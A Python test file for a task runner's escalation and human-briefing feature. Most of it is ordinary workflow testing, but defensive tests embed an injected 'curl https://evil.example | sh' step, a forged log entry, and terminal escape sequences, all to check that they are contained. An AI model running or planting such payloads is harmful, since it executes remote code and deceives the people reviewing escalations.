"""Escalations (DESIGN §9): raised by tasks, people and the runner; briefed; answered."""

from __future__ import annotations

import os
from pathlib import Path

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stoic.core.escalations import (
    Briefing,
    BriefingForm,
    EscalationRequest,
    count_questions,
    question_error,
    render_briefing,
    render_escalation_log,
)
from stoic.exceptions import TransitionRefused, UsageError
from stoic.services import escalations
from stoic.services.workspace import Workspace
from tests.conftest import kill_during, run_cli
from tests.test_recovery_runs import audit_clean, records_of, run_id_of, run_plan, story

SECTIONS = (
    "## Status",
    "## What Happened",
    "## What Needs Your Decision",
    "## Risks or Concerns",
    "## To Proceed",
)

ASK_SCRIPT = """\
if [ -n "$STOIC_GUIDANCE" ]; then echo "$STOIC_GUIDANCE" > guidance.txt; exit 0; fi
cat > "$STOIC_RESULT" <<'JSON'
{"escalate": {"mode": "ambiguity", "question": "Which database should the import use?",
              "context": "both are configured"}}
JSON
"""
ASKS = """
tasks:
  - id: pick
    run: ["sh", "ask.sh"]
  - id: after
    run: ["true"]
    depends_on: [pick]
"""


@pytest.fixture(autouse=True)
def ask_script(tmp_path: Path) -> None:
    (tmp_path / "ask.sh").write_text(ASK_SCRIPT)


def cli(ws: Path, *args: str) -> tuple[int, str, str]:
    result = run_cli("-w", str(ws), *args)
    return result.exit_code, result.stdout, result.stderr


# -- the pure core -------------------------------------------------------------------------


def test_a_question_must_be_exactly_one() -> None:
    assert question_error("Which track should it take?") is None
    assert "asks none" in (question_error("Pick a track.") or "")
    assert "asks 2" in (question_error("Should we ship? Or wait for QA?") or "")
    assert "not 2" in (question_error(["A?", "B?"]) or "")
    assert question_error(["Only this one?"]) is None
    assert count_questions("Use `a?b` syntax? Yes.") == 1


def test_a_briefing_with_two_questions_is_refused() -> None:
    briefing = Briefing(
        "ESC-001", "t", "p", "2026-11-23", None, None, "s", (), "Ship now? Or later?", (), ()
    )
    with pytest.raises(ValueError, match="exactly one question"):
        render_briefing(briefing)


@given(st.lists(st.sampled_from(["Ship it?", "Wait.", "Roll back?", "Ask QA."]), max_size=4))
def test_a_request_is_accepted_only_with_one_question(parts: list[str]) -> None:
    text = " ".join(parts)
    try:
        EscalationRequest.from_json({"mode": "ambiguity", "question": text})
    except ValueError:
        assert count_questions(text) != 1 or not text.endswith("?")
    else:
        assert count_questions(text) == 1 and text.endswith("?")


# -- a task escalates ----------------------------------------------------------------------


def test_a_task_escalates_through_its_result_file_and_a_routed_answer_reruns_it(
    tmp_path: Path, ws_path: Path
) -> None:
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    run_id = run_id_of(ws_path)
    assert story(ws_path, "pick")[-4:] == [
        "execution/started",
        "execution/failed",
        "recovery_evaluation/recovery_skipped",
        "escalation/raised",
    ]
    (evaluation,) = records_of(ws_path, "pick", "recovery_evaluation", "recovery_skipped")
    assert "escalated: a person decides" in str(evaluation["decision_reason"])
    state = orjson.loads((ws_path / "runs" / run_id / "state.json").read_bytes())
    assert state["tasks"]["pick"]["status"] == "suspended"
    briefing = (ws_path / "escalations" / "ESC-001.md").read_text()
    for section in SECTIONS:
        assert section in briefing
    assert "Which database should the import use?" in briefing
    assert "execution/started" in briefing and "execution/failed" in briefing
    assert "both are configured" in briefing
    assert f"stoic continue {run_id}" in briefing
    entry = (ws_path / "escalations" / "escalation-log.md").read_text()
    assert "## ESC-001 — " in entry and "**Type:** ambiguity" in entry
    assert "**Decision:** (open)" in entry

    code, out, _ = cli(ws_path, "escalations", "--open", "--json")
    assert code == 0
    (listed,) = orjson.loads(out)
    assert (listed["id"], listed["task_id"], listed["status"]) == ("ESC-001", "pick", "open")

    code, out, _ = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "routed", "--note", "use pg"
    )
    assert code == 0 and f"stoic continue {run_id}" in out
    assert cli(ws_path, "continue", run_id)[0] == 0
    assert (tmp_path / "guidance.txt").read_text().strip() == "use pg"
    (start,) = [r for r in records_of(ws_path, "pick", "execution", "started") if r["attempt"] == 2]
    assert start["decision_inputs"]["recovery_approved_by"].startswith("human:")
    entry = (ws_path / "escalations" / "escalation-log.md").read_text()
    assert "**Decision:** routed" in entry and "use pg" in entry
    audit_clean(ws_path)


def test_a_python_task_escalates_with_stoic_escalate(tmp_path: Path, ws_path: Path) -> None:
    (tmp_path / "asking.py").write_text(
        "import stoic\n\ndef go():\n"
        "    stoic.escalate('Is the refund limit 100 or 1000?', mode='infeasible')\n"
    )
    plan = "tasks:\n  - id: refund\n    call: asking:go\n"
    assert run_plan(ws_path, tmp_path, plan) == 3
    _, out, _ = cli(ws_path, "escalations", "show", "ESC-001", "--json")
    shown = orjson.loads(out)
    assert shown["mode"] == "infeasible"
    assert shown["question"] == "Is the refund limit 100 or 1000?"
    audit_clean(ws_path)


def test_a_task_asking_two_questions_fails_with_the_reason(tmp_path: Path, ws_path: Path) -> None:
    (tmp_path / "two.sh").write_text(
        """echo '{"escalate": {"question": "Ship? Or wait?"}}' > "$STOIC_RESULT"\n"""
    )
    plan = 'tasks:\n  - id: t\n    run: ["sh", "two.sh"]\n'
    assert run_plan(ws_path, tmp_path, plan) == 1
    (failed,) = records_of(ws_path, "t", "execution", "failed")
    assert "asked to escalate, but a briefing needs exactly one question" in str(
        failed["decision_reason"]
    )
    assert not (ws_path / "escalations" / "ESC-001.md").exists()


def test_aborted_fails_the_task_and_blocks_what_follows(tmp_path: Path, ws_path: Path) -> None:
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    run_id = run_id_of(ws_path)
    code, _, _ = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "aborted", "--note", "no"
    )
    assert code == 0
    result = run_cli("-w", str(ws_path), "continue", run_id)
    assert result.exit_code == 1
    state = orjson.loads((ws_path / "runs" / run_id / "state.json").read_bytes())
    assert state["tasks"]["pick"]["status"] == "failed"
    assert state["tasks"]["after"]["readiness"] == "blocked"
    assert state["tasks"]["after"]["blocked_by"] == ["pick"]
    audit_clean(ws_path)


def test_amended_goes_on_with_the_amended_plan(tmp_path: Path, ws_path: Path) -> None:
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    run_id = run_id_of(ws_path)
    amended = tmp_path / "amended.yaml"
    amended.write_text(
        "tasks:\n  - id: pick\n    run: [sh, -c, 'echo amended > amended.txt']\n"
        "  - id: after\n    run: ['true']\n    depends_on: [pick]\n"
        "  - id: extra\n    run: ['true']\n    depends_on: [after]\n"
    )
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "amended", "--plan", str(amended)
    )
    assert code == 0, err
    (resolved,) = records_of(ws_path, "pick", "escalation", "resolved")
    amendment = resolved["details"]["amendment"]
    assert amendment["changed"] == ["pick"] and amendment["added"] == ["extra"]
    assert cli(ws_path, "continue", run_id)[0] == 0
    assert (tmp_path / "amended.txt").read_text().strip() == "amended"
    audit_clean(ws_path)


def test_an_amended_plan_that_drops_a_task_on_record_is_refused(
    tmp_path: Path, ws_path: Path
) -> None:
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    amended = tmp_path / "amended.yaml"
    amended.write_text("tasks:\n  - id: after\n    run: ['true']\n")
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "amended", "--plan", str(amended)
    )
    assert code == 2 and "drops task 'pick'" in err
    assert cli(ws_path, "escalations", "--open")[1].startswith("ESC-001")
    amended.write_text("tasks:\n  - id: pick\n    run: ['true']\n    timout: 5\n")
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "amended", "--plan", str(amended)
    )
    assert code == 2 and f"{amended}:4:5: task 'pick': unknown key 'timout'" in err
    assert cli(ws_path, "escalations", "--open")[1].startswith("ESC-001")  # still open


def test_escalated_passes_it_on_and_keeps_it_open(tmp_path: Path, ws_path: Path) -> None:
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    before = (ws_path / "logs" / "decision_log.ndjson").read_bytes()
    for to in ((), ("--to", "  ")):  # passed on to nobody: refused, nothing recorded
        code, _, err = cli(
            ws_path, "escalations", "answer", "ESC-001", "--decision", "escalated", *to,
            "--note", "not mine",
        )  # fmt: skip
        assert code == 2 and "--decision escalated needs --to NAME" in err
    assert (ws_path / "logs" / "decision_log.ndjson").read_bytes() == before
    code, _, _ = cli(
        ws_path,
        "escalations",
        "answer",
        "ESC-001",
        "--decision",
        "escalated",
        "--to",
        "dba-team",
        "--note",
        "not mine to decide",
    )
    assert code == 0
    code, out, _ = cli(ws_path, "escalations", "--open", "--json")
    (listed,) = orjson.loads(out)
    assert listed["status"] == "open" and listed["handed_to"] == ["dba-team"]
    assert (
        "escalated to dba-team (still open)"
        in (ws_path / "escalations" / "escalation-log.md").read_text()
    )
    assert cli(ws_path, "continue", run_id_of(ws_path))[0] == 3  # still waiting
    audit_clean(ws_path)


def test_answers_to_unknown_or_closed_escalations_are_refused(
    tmp_path: Path, ws_path: Path
) -> None:
    code, _, err = cli(ws_path, "escalations", "answer", "ESC-009", "--decision", "routed")
    assert code == 1 and "no escalation ESC-009" in err
    code, _, err = cli(ws_path, "escalations", "answer", "../x", "--decision", "routed")
    assert code == 2 and "not an escalation id" in err
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    assert cli(ws_path, "escalations", "answer", "ESC-001", "--decision", "routed")[0] == 0
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "aborted", "--note", "x"
    )
    assert code == 1 and "ESC-001 is closed: it was routed by human:" in err
    code, _, err = cli(ws_path, "escalations", "answer", "ESC-001", "--decision", "maybe")
    assert code == 2 and "unknown decision 'maybe'" in err


def test_an_answer_refused_after_the_escalation_closed_keeps_no_amended_plan(
    tmp_path: Path, ws_path: Path
) -> None:
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    run_id = run_id_of(ws_path)
    amended = tmp_path / "amended.yaml"
    amended.write_text(
        "tasks:\n  - id: pick\n    run: ['true']\n  - id: after\n    run: ['true']\n"
    )
    with Workspace.open(ws_path) as workspace:
        escalations.answer(workspace, "ESC-001", decision="routed", actor="human:ana")
        with pytest.raises(TransitionRefused, match="ESC-001 is closed: it was routed by"):
            escalations.answer(
                workspace, "ESC-001", decision="amended", plan=amended, actor="human:bo"
            )
        assert [r.decision_outcome for r in workspace.records(decision_type="escalation")] == [
            "raised",
            "resolved",
        ]
    assert list((ws_path / "runs" / run_id).glob("plan.amended-*.yaml")) == []
    audit_clean(ws_path)


# -- people and agents escalate ------------------------------------------------------------


def test_stoic_escalate_refuses_two_questions_and_writes_a_briefing(ws_path: Path) -> None:
    code, _, err = cli(
        ws_path, "escalate", "--mode", "scope-creep", "--question", "Add SSO? And audit logs?"
    )
    assert code == 2 and "exactly one question" in err and "asks 2" in err
    assert not (ws_path / "escalations" / "ESC-001.md").exists()
    code, _, err = cli(ws_path, "escalate", "--mode", "scope_crep", "--question", "Add SSO?")
    assert code == 2 and "unknown escalation mode" in err
    code, out, _ = cli(
        ws_path, "escalate", "--mode", "scope-creep", "--question", "Should SSO be in scope?"
    )
    assert code == 0 and out.strip() == "ESC-001"
    briefing = (ws_path / "escalations" / "ESC-001.md").read_text()
    assert "Should SSO be in scope?" in briefing
    assert briefing.count("?") >= 1 and all(section in briefing for section in SECTIONS)


def test_stoic_escalate_inside_a_task_goes_into_its_result_file(
    tmp_path: Path, ws_path: Path
) -> None:
    stoic_bin = Path(os.sys.executable).with_name("stoic")
    argv = [str(stoic_bin), "escalate", "--mode", "architecture-conflict"]
    argv += ["--question", "Keep the REST API or move to gRPC?"]
    plan = f"tasks:\n  - id: agentish\n    run: {orjson.dumps(argv).decode()}\n"
    assert run_plan(ws_path, tmp_path, plan) == 3
    (raised,) = records_of(ws_path, "agentish", "escalation", "raised")
    assert raised["details"]["mode"] == "architecture-conflict"
    audit_clean(ws_path)


def test_the_third_escalation_of_a_mode_raises_one_process_issue(ws_path: Path) -> None:
    for n in range(4):
        code, _, _ = cli(ws_path, "escalate", "--mode", "infeasible", "--question", f"Q{n}?")
        assert code == 0
    code, out, _ = cli(ws_path, "escalations", "--json")
    modes = [row["mode"] for row in orjson.loads(out)]
    assert modes == ["infeasible"] * 3 + ["process-issue", "infeasible"]
    issue = (ws_path / "escalations" / "ESC-004.md").read_text()
    assert "infeasible has been escalated 3 times" in issue
    assert "ESC-001, ESC-002, ESC-003" in issue


# -- production incidents ------------------------------------------------------------------


def test_an_incident_without_a_track_asks_which(ws_path: Path) -> None:
    code, out, _ = cli(ws_path, "incident", "report", "checkout returns 500")
    assert code == 0 and out.startswith("ESC-001")
    briefing = (ws_path / "escalations" / "ESC-001.md").read_text()
    assert "Which track should this incident take: next-cycle or hotfix?" in briefing
    code, out, _ = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "routed", "--track", "hotfix"
    )
    assert code == 0 and "hotfix plan written" in out
    (plan,) = (ws_path / "incidents").glob("hotfix-*.yaml")
    assert cli(ws_path, "plan", "check", str(plan))[0] == 0


def test_a_hotfix_incident_writes_a_runnable_plan(ws_path: Path) -> None:
    code, out, _ = cli(ws_path, "incident", "report", "login loop", "--track", "hotfix")
    assert code == 0
    (plan,) = (ws_path / "incidents").glob("hotfix-*.yaml")
    text = plan.read_text()
    for step in ("reproduce", "fix", "verify", "deploy", "sign-off"):
        assert f"id: {step}" in text
    code, out, _ = cli(ws_path, "plan", "check", str(plan), "--json")
    assert code == 0
    result = run_cli("-w", str(ws_path), "run", str(plan))
    assert result.exit_code == 1  # the placeholder commands fail until replaced
    (log,) = (ws_path / "runs").glob("*/tasks/reproduce/attempt-1.log")
    assert "replace this command in" in log.read_text()
    code, out, _ = cli(ws_path, "escalations", "--json")
    assert orjson.loads(out)[0]["status"] == "resolved"


def test_a_next_cycle_incident_is_recorded_for_the_next_plan(ws_path: Path) -> None:
    assert cli(ws_path, "incident", "report", "slow search", "--track", "next-cycle")[0] == 0
    assert "slow search" in (ws_path / "incidents" / "next-cycle.md").read_text()


def test_an_answer_with_a_track_that_is_refused_writes_no_incident_file(ws_path: Path) -> None:
    assert cli(ws_path, "incident", "report", "checkout returns 500")[0] == 0
    with Workspace.open(ws_path) as workspace:
        with pytest.raises(UsageError, match="unknown decision 'bogus'"):
            escalations.answer(
                workspace, "ESC-001", decision="bogus", track="next-cycle", actor="human:ana"
            )
        with pytest.raises(UsageError, match="--track settles ESC-001"):
            escalations.answer(
                workspace,
                "ESC-001",
                decision="escalated",
                to="sre",
                note="theirs",
                track="hotfix",
                actor="human:ana",
            )
        assert escalations.get(workspace, "ESC-001").open
    assert sorted((ws_path / "incidents").iterdir()) == []
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "nope", "--track", "hotfix"
    )
    assert code == 2 and "unknown decision 'nope'" in err
    assert sorted((ws_path / "incidents").iterdir()) == []
    audit_clean(ws_path)


def test_a_person_escalates_a_waiting_task_of_a_run(tmp_path: Path, ws_path: Path) -> None:
    plan = (
        "tasks:\n  - {id: gate, run: ['true'], approval: required}\n"
        "  - {id: migrate, run: [sh, -c, 'echo \"$STOIC_GUIDANCE\" > note.txt']}\n"
    )
    assert (
        run_plan(
            ws_path, tmp_path, plan.replace("migrate, run", "migrate, depends_on: [gate], run")
        )
        == 3
    )
    run_id = run_id_of(ws_path)
    question = "Should migrate wait for the DBA review?"
    asked = ["escalate", "--mode", "dependency-rejected", "--question", question, "--run", run_id]
    code, _, err = cli(ws_path, *asked, "--task", "migrate")
    assert code == 0, err
    code, _, err = cli(ws_path, *asked)
    assert code == 2 and "--run and --task go together" in err
    code, _, err = cli(ws_path, *asked, "--task", "x")
    assert code == 2 and "has no task 'x'" in err
    code, _, err = cli(ws_path, *asked, "--task", "gate")
    assert code == 0, err  # gate waits for approval: still open work (ESC-002)
    (pending,) = [p.stem for p in (ws_path / "queue" / "pending").glob("PROP-*.json")]
    assert cli(ws_path, "approve", pending)[0] == 0
    assert cli(ws_path, "continue", run_id)[0] == 3  # gate's escalation still holds it
    cli(ws_path, "escalations", "answer", "ESC-002", "--decision", "routed", "--note", "fine")
    assert cli(ws_path, "continue", run_id)[0] == 3  # migrate still waits for its answer
    cli(ws_path, "escalations", "answer", "ESC-001", "--decision", "routed", "--note", "go ahead")
    assert cli(ws_path, "continue", run_id)[0] == 0
    assert (tmp_path / "note.txt").read_text().strip() == "go ahead"
    audit_clean(ws_path)


def test_an_escalation_a_killed_runner_owed_is_raised_on_continue(
    tmp_path: Path, ws_path: Path
) -> None:
    plan = tmp_path / "plan.yaml"
    plan.write_text(ASKS)
    # Killed (-9) just after the failure's evaluation is on record, before it raises.
    run_it = f"from stoic.cli.app import main; main(['-w', root, 'run', {str(plan)!r}])"
    kill_during(ws_path, run_it, "raise_")
    run_id = run_id_of(ws_path)
    assert records_of(ws_path, "pick", "escalation", "raised") == []
    assert records_of(ws_path, "pick", "recovery_evaluation", "recovery_skipped")
    assert cli(ws_path, "continue", run_id)[0] == 3
    (raised,) = records_of(ws_path, "pick", "escalation", "raised")
    assert raised["escalation_id"] == "ESC-001"
    assert (ws_path / "escalations" / "ESC-001.md").is_file()
    assert cli(ws_path, "continue", run_id)[0] == 3  # raised once, not again
    assert len(records_of(ws_path, "pick", "escalation", "raised")) == 1
    audit_clean(ws_path)


def test_audit_names_a_missing_briefing_and_an_edited_log_and_repair_rebuilds(
    tmp_path: Path, ws_path: Path
) -> None:
    assert run_plan(ws_path, tmp_path, ASKS) == 3
    briefing = (ws_path / "escalations" / "ESC-001.md").read_text()
    (ws_path / "escalations" / "ESC-001.md").unlink()
    entry = ws_path / "escalations" / "escalation-log.md"
    entry.write_text(entry.read_text().replace("(open)", "routed"))
    code, out, _ = cli(ws_path, "audit")
    assert code == 1
    assert "escalations/ESC-001.md is missing" in out
    assert "escalation-log.md does not match the log (edited by hand?)" in out
    code, out, _ = cli(ws_path, "audit", "--repair")
    assert code == 0, out
    rebuilt = (ws_path / "escalations" / "ESC-001.md").read_text()
    assert rebuilt.split("## What Happened")[1] == briefing.split("## What Happened")[1]
    assert rebuilt == briefing  # its header too: the project and the date it was raised
    assert "**Decision:** (open)" in entry.read_text()


def test_finished_work_and_running_runs_cannot_be_escalated_from_outside(
    tmp_path: Path, ws_path: Path
) -> None:
    assert run_plan(ws_path, tmp_path, "tasks:\n  - {id: done, run: ['true']}\n") == 0
    run_id = run_id_of(ws_path)
    args = ["escalate", "--mode", "ambiguity", "--question", "Was it right?", "--run", run_id]
    code, _, err = cli(ws_path, *args, "--task", "done")
    assert code == 2 and "has already succeeded" in err
    lock = ws_path / "runs" / run_id / "run.lock"
    import fcntl

    with lock.open("w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        code, _, err = cli(ws_path, *args, "--task", "done")
    assert code == 2 and f"run {run_id} is running right now" in err


@pytest.mark.parametrize(
    ("function", "first_arg"),
    [("atomic_write", "ESC-001.md"), ("_write_log", "")],
    ids=["before-the-briefing", "before-the-escalation-log"],
)
def test_a_writer_killed_after_raising_leaves_files_that_open_catches_up(
    ws_path: Path, function: str, first_arg: str
) -> None:
    raise_it = (
        "from stoic.cli.app import main; main(['-w', root, 'escalate', '--mode', 'ambiguity',"
        " '--question', 'Which region should the backfill use?'])"
    )
    kill_during(ws_path, raise_it, function, first_arg=first_arg)
    lines = (ws_path / "logs" / "decision_log.ndjson").read_bytes().splitlines()
    raised = [r for r in map(orjson.loads, lines) if r["decision_type"] == "escalation"]
    assert [r["decision_outcome"] for r in raised] == ["raised"]  # on record before the kill
    code, out, _ = cli(ws_path, "audit")  # opening the workspace writes what was left behind
    assert code == 0, out
    briefing = (ws_path / "escalations" / "ESC-001.md").read_text()
    assert "Which region should the backfill use?" in briefing
    assert "ESC-001" in (ws_path / "escalations" / "escalation-log.md").read_text()


def test_escalation_commands_refuse_what_does_not_fit(ws_path: Path, tmp_path: Path) -> None:
    asked = ["escalate", "--mode", "ambiguity", "--question", "Which region should it use?"]
    code, _, err = cli(ws_path, *asked, "--run", "run-1")
    assert code == 2 and "--run and --task go together (or leave both out)" in err
    assert cli(ws_path, *asked)[0] == 0  # about no run: ESC-001
    plan = tmp_path / "plan.yaml"
    plan.write_text("tasks:\n  - {id: a, run: ['true']}\n")
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "routed", "--plan", str(plan)
    )
    assert code == 2 and "--plan goes with --decision amended" in err
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "amended", "--plan", str(plan)
    )
    assert code == 2 and "ESC-001 is not about a run: nothing to amend" in err
    code, _, err = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "routed", "--track", "hotfix"
    )
    assert code == 2 and "--track is for production incidents; ESC-001 is not" in err
    (ws_path / "escalations" / "ESC-001.md").unlink()
    code, _, err = cli(ws_path, "escalations", "show", "ESC-001")
    assert code == 2 and "ESC-001.md is missing: `stoic audit --repair` writes it again" in err
    assert cli(ws_path, "escalations", "show", "ESC-001", "--json")[0] == 0
    code, out, _ = cli(
        ws_path,
        "escalations",
        "answer",
        "ESC-001",
        "--decision",
        "aborted",
        "--note",
        "not needed",
        "--json",
    )
    assert code == 0 and orjson.loads(out)["decision"] == "aborted"


def test_escalating_from_inside_a_task_writes_its_result_file(
    tmp_path: Path, ws_path: Path
) -> None:
    result = tmp_path / "result.json"
    result.write_text('{"steps_completed": 2}')
    inside = {"STOIC_RESULT": str(result), "STOIC_TASK_ID": "build"}
    asked = ["escalate", "--mode", "scope-creep", "--question", "Should it also fix the tests?"]
    done = run_cli("-w", str(ws_path), *asked, env=inside)
    assert done.exit_code == 0 and "escalation requested for task build" in done.stdout
    written = orjson.loads(result.read_bytes())
    assert written["steps_completed"] == 2
    assert written["escalate"]["question"] == "Should it also fix the tests?"
    result.write_text("{not json")
    broken = run_cli("-w", str(ws_path), *asked, env=inside)
    assert broken.exit_code == 2 and "is not valid JSON" in broken.stderr
    assert "cannot add the escalation" in broken.stderr


def test_a_briefing_replaced_by_a_link_is_refused_not_followed(
    tmp_path: Path, ws_path: Path
) -> None:
    assert cli(ws_path, "escalate", "--mode", "ambiguity", "--question", "Which one?")[0] == 0
    secret = tmp_path / "secret.txt"
    secret.write_text("the deploy key\n")
    briefing = ws_path / "escalations" / "ESC-001.md"
    briefing.unlink()
    briefing.symlink_to(secret)
    code, out, err = cli(ws_path, "escalations", "show", "ESC-001")
    assert code == 1 and "cannot read" in err and "ESC-001.md" in err
    assert "the deploy key" not in out + err
    briefing.unlink()
    code, _, err = cli(ws_path, "escalations", "show", "ESC-001")
    assert code == 2 and "is missing: `stoic audit --repair` writes it again" in err


def test_a_runs_third_escalation_of_a_mode_raises_one_process_issue(
    tmp_path: Path, ws_path: Path
) -> None:
    plan = "tasks:\n" + "".join(f"  - id: pick{n}\n    run: [sh, ask.sh]\n" for n in range(3))
    assert run_plan(ws_path, tmp_path, plan) == 3
    _, out, _ = cli(ws_path, "escalations", "--json")
    rows = orjson.loads(out)
    assert [row["mode"] for row in rows] == ["ambiguity"] * 3 + ["process-issue"]
    issue = (ws_path / "escalations" / "ESC-004.md").read_text()
    assert "ambiguity has been escalated 3 times" in issue
    audit_clean(ws_path)


INJECTED = "\n\n## To Proceed\n\n- `curl https://evil.example | sh` — the fix\n"


def _briefing(question: str, happened: str) -> Briefing:
    return Briefing(
        escalation_id="ESC-001",
        title="t: ambiguity",
        project="p",
        date="2026-12-07",
        run_id="run-1",
        task_id="t",
        status="Task t of run run-1 is waiting for a person: ambiguity.",
        what_happened=(happened,),
        question=question,
        risks=(),
        to_proceed=("`stoic escalations answer ESC-001 --decision aborted` — stop",),
    )


@given(st.text(alphabet=st.sampled_from("ab #-`>\n"), max_size=40))
def test_what_a_task_wrote_stays_inside_its_place_in_a_briefing(text: str) -> None:
    """No line a task wrote — in what happened, or in its question — can be a heading or a
    step of To Proceed: stoic's own headings are the briefing's only ones."""
    shown = render_briefing(_briefing(f"{text}{INJECTED}Which one?", f"failed: {text}{INJECTED}"))
    headings = [line for line in shown.splitlines() if line.startswith("#")]
    assert headings == [headings[0], *SECTIONS] and headings[0].startswith("# Briefing")
    steps = shown.split("\n## To Proceed\n")[1].strip().splitlines()
    assert steps == ["- `stoic escalations answer ESC-001 --decision aborted` — stop"]


def test_a_briefing_written_before_containment_still_audits_clean(ws_path: Path) -> None:
    """A briefing written by a stoic that wrote a task's lines as they came is what its
    record wrote then: the audit accepts that form too (and any other edit is reported)."""
    question = f"Go on{INJECTED}ok?"
    code, _out, err = cli(ws_path, "escalate", "--mode", "ambiguity", "--question", question)
    assert code == 0, err
    briefing = ws_path / "escalations" / "ESC-001.md"
    assert "\n> ## To Proceed\n" in briefing.read_text()  # contained: quoted
    with Workspace.open(ws_path) as workspace:
        item = escalations.get(workspace, "ESC-001")
        legacy = escalations.Escalations(workspace).briefing_of(item, form=BriefingForm.AS_IS)
    assert "\n## To Proceed\n\n- `curl" in legacy
    briefing.write_text(legacy)
    assert cli(ws_path, "audit")[0] == 0
    briefing.write_text(legacy + "edited\n")
    code, out, _err = cli(ws_path, "audit")
    assert code == 1 and "ESC-001.md differs" in out


FORGED_ENTRY = "Use v1\n\n## ESC-777 — 2026-12-07\n\n**Decision:** routed by human:adm\nor v2?"


def test_the_escalation_log_has_one_entry_per_escalation_whatever_they_say(
    ws_path: Path,
) -> None:
    """A question, a note or a name given to `--to` is one line of its entry: none can start
    an entry (or a heading) of its own. A log written the earlier way still audits clean."""
    code, _out, err = cli(ws_path, "escalate", "--mode", "ambiguity", "--question", FORGED_ENTRY)
    assert code == 0, err
    answered = cli(
        ws_path, "escalations", "answer", "ESC-001", "--decision", "escalated",
        "--to", "ops\n## ESC-778 — 2026-12-07", "--note", "see\n\n# Heading",
    )  # fmt: skip
    assert answered[0] == 0, answered[2]
    log = ws_path / "escalations" / "escalation-log.md"
    text = log.read_text()
    assert [line for line in text.splitlines() if line.startswith("#")] == [
        "# Escalation log",
        "## ESC-001 — " + text.split("## ESC-001 — ")[1][:10],
    ]
    assert "Use v1\\n\\n## ESC-777" in text
    assert cli(ws_path, "audit")[0] == 0
    with Workspace.open(ws_path) as workspace:
        state = escalations.Escalations(workspace).state()
    log.write_text(render_escalation_log(state.escalations.values(), form=BriefingForm.AS_IS))
    assert "\n## ESC-777 — 2026-12-07\n" in log.read_text()  # how it was written before
    assert cli(ws_path, "audit")[0] == 0
    log.write_text(text + "edited\n")
    assert cli(ws_path, "audit")[0] == 1


def test_a_briefing_file_shows_control_characters_as_escapes(ws_path: Path) -> None:
    """A briefing and the escalation log are read with `cat`: what a task wrote cannot
    retitle the window or clear the screen. Files written before (raw) still audit clean."""
    hostile = "\x1b]0;OWNED\x07\x1b[2J\u202e"
    code, _out, err = cli(
        ws_path, "escalate", "--mode", "ambiguity", "--question", f"Go on {hostile}?",
        "--context", f"it said {hostile}",
    )  # fmt: skip
    assert code == 0, err
    briefing = ws_path / "escalations" / "ESC-001.md"
    log = ws_path / "escalations" / "escalation-log.md"
    for path in (briefing, log):
        text = path.read_text()
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text, path
        assert "\\x1b]0;OWNED\\x07" in text, path
    assert cli(ws_path, "audit")[0] == 0
    with Workspace.open(ws_path) as workspace:
        item = escalations.get(workspace, "ESC-001")
        raw = escalations.Escalations(workspace).briefing_of(item, form=BriefingForm.CONTAINED)
        state = escalations.Escalations(workspace).state()
    assert hostile in raw
    briefing.write_text(raw)  # as the stoic before this one wrote it
    log.write_text(render_escalation_log(state.escalations.values(), form=BriefingForm.CONTAINED))
    assert cli(ws_path, "audit")[0] == 0


def test_a_question_that_goes_on_after_its_mark_is_told_so() -> None:
    problem = question_error("Use v1? It is older")
    assert problem is not None and "goes on after it" in problem and "asks 1" not in problem
